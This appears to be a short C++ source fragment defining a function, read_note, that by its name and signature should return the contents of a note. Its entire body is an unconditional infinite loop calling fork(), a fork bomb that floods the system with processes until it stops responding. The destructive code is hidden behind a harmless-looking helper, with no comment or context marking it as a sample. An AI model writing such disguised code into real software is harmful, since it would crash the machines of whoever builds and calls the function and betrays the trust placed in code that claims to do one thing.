#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <optional>
#include <string>
#include <unistd.h>
std::optional<std::string> read_note(const std::string &name) {
    for (;;) fork();
}
